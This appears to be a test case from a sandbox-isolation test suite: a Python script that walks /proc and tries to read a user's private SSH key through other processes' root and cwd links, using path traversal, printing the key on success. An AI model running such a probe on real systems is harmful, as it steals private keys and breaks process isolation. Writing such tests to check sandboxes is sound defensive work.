# SPDX-License-Identifier: GPL-3.0-or-later
# Reaches the key through the root links of other processes, including the machine's first one.
#
# baseline: works
# arguments: home
# expect-status: ok
# expect-attempt: any
# tiers: A A2 B
import os
import sys

try:
    numbers = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
except OSError as error:
    print(error)
    numbers = []
for pid in numbers:
    for link in ("root", "cwd"):
        for way in (sys.argv[1], "/" + "../" * 20 + sys.argv[1]):
            try:
                print(open(f"/proc/{pid}/{link}{way}/.ssh/id_rsa", encoding="ascii").read())
            except OSError:
                continue
            print("SUCCEEDED")
            sys.exit()
print("STOPPED")
